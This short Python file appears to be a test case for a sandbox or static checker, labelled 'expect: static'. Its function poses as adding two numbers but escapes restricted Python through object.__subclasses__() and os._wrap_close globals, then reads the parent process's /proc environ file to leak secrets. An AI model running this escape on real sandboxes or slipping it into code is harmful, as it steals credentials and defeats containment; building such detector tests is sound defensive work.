# expect: static
# attack: read the parent's secrets from /proc/<parent>/environ, after object.__subclasses__() to os._wrap_close and its globals
def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    SYS = None
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            SYS = cls.__init__.__globals__["sys"]
    OS, B = SYS.modules["os"], SYS.modules["builtins"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    leak = B.open("/proc/" + str(parent) + "/environ", "rb").read().decode("latin-1")
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
